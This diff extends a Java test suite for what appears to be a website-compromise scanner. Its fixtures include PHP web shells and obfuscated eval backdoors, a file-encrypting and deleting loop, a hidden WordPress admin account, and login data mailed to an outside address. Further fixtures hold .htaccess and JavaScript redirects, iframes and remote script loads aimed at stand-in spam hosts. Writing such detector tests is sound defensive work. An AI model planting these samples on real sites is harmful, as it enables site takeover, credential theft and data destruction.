@@ -35,6 +35,10 @@ final class PlantedFilesTest {
           "<?php foreach(glob('*') as $f){file_put_contents($f.'.x',openssl_encrypt(file_get_contents($f),'aes-256-cbc',$k));unlink($f);}",
           "<?php $user='wpsupport'; $pass='a1b2c3d4'; $id=wp_create_user($user,$pass,'a@b.co'); $u=new WP_User($id); $u->set_role('administrator');",
           "<?php mail('x@yandex.com','log',$_POST['username'].'|'.$_POST['passwd']);",
+          "<?php include('phar://gambar/a.jpg/x');",
+          "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
+          "<?php $p='pass'.$x; $p($_SERVER['HTTP_X_SANDI']);",
+          "<?php $a='_'.$b; ${$a}[0](${$a}[1]);",
           "<?php $l=file('list.txt',FILE_IGNORE_NEW_LINES);if(in_array($_GET['go'],$l)){$B=$_GET['go'];} ?><h1><?=$B?></h1>");
 
   private static final List<String> WORK =
@@ -45,18 +49,24 @@ final class PlantedFilesTest {
           "<?php error_reporting(0); $p=md5($_POST['password']); $q=mysqli_query($db,\"select * from users where p='$p'\");",
           "<?php $id=$_GET['id']; $q=$db->query('select * from berita'); ?><a class='navbar-brand' href='/'>x</a><ul class='list'></ul><b class='brand-text'>",
           "<?php $x=json_decode(file_get_contents(\"http://$host/jadwal\"));",
+          "<?php $qr=base64_encode(file_get_contents('https://qr.example.org/?t='.$t));",
+          "<?php $m=@popen($sendmail, 'w'); fputs($m, $isi); pclose($m);",
           "<?php $ids=array_map('intval',$_POST['ids']); $this->simpan($_POST['nama']);");
 
   private static final List<String> RULES_AGAINST =
       List.of(
           "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^(.*)$ /x/index.php [L]\n",
           "RewriteCond %{HTTP_USER_AGENT} (ahrefsbot) [NC]\nRewriteRule .* - [F]\nRewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule .* /lp.html [L]\n",
+          "ErrorDocument 404 https://kue.example.org/\n",
+          "Redirect 301 /berita https://rajakue88.example/daftar\n",
+          "RewriteRule ^$ https://kue.example.org [R=302,L]\n",
           "<FilesMatch \"^(about.php|radio.php)$\">\nOrder allow,deny\nAllow from all\n</FilesMatch>\n");
 
   private static final List<String> RULES_FOR =
       List.of(
           "RewriteCond %{HTTP_USER_AGENT} (ahrefs|semrush|mj12bot) [NC]\nRewriteRule .* - [F,L]\n",
           "<FilesMatch \"\\.(php|phtml)$\">\nOrder allow,deny\nDeny from all\n</FilesMatch>\n",
+          "ErrorDocument 404 /404.html\nRedirect 301 /sipp https://sipp.pn-contoh.go.id/\n",
           "<Files admin-ajax.php>\nOrder allow,deny\nAllow from all\n</Files>\n");
 
   @TempDir Path site;
@@ -89,6 +99,33 @@ final class PlantedFilesTest {
     for (String rules : RULES_FOR) {
       expect(Verdict.NONE, ".htaccess", rules);
     }
+  }
+
+  @Test
+  void scan_notesMapsAndStyles_areReadToo() throws IOException {
+    expect(Verdict.CRITICAL, "x.txt", "Hacked by Kue_Lapis");
+    expect(Verdict.CRITICAL, "x.txt", "<center>Hacked by Kue_Lapis</center>");
+    expect(Verdict.NONE, "x.txt", "Putusan perkara peretasan: laman diubah menjadi hacked by Kue");
+    expect(Verdict.CRITICAL, "a.css", "p:after{content:'slot gacor maxwin';font-size:0}");
+    expect(Verdict.NONE, "a.css", ".slot{grid-area:a}p:after{content:'\\f101'}");
+    expect(Verdict.CRITICAL, "manifest.json", "{\"start_url\":\"https://kue.example.org/\"}");
+    expect(Verdict.NONE, "manifest.json", "{\"start_url\":\"https://pn-contoh.go.id/\"}");
+    expect(Verdict.CRITICAL, "sitemap.xml", "<loc>https://rajakue88.example/sitemap.xml</loc>");
+    expect(Verdict.CRITICAL, "robots.txt", "Sitemap: https://pn-contoh.go.id/slot-gacor.xml\n");
+  }
+
+  @Test
+  void scan_scriptsThatTurnOrCover_areCritical() throws IOException {
+    for (String script :
+        List.of(
+            "document.querySelectorAll('a').forEach(a=>{a.href='https://kue.example.org/'})",
+            "document.body.innerHTML='<iframe src=https://kue.example.org style=position:fixed>'",
+            "x.src='//'+['s','kuelapis','example'].join('.')+'/j.js'",
+            "e.respondWith(Response.redirect('https://kue.example.org/'))")) {
+      expect(Verdict.CRITICAL, "sw.js", script);
+    }
+    expect(Verdict.NONE, "a.js", "document.querySelectorAll('a').forEach(a=>{a.href='/en/'})");
+    expect(Verdict.NONE, "a.js", "var versi=['1','2','3'].join('.');");
   }
 
   @Test
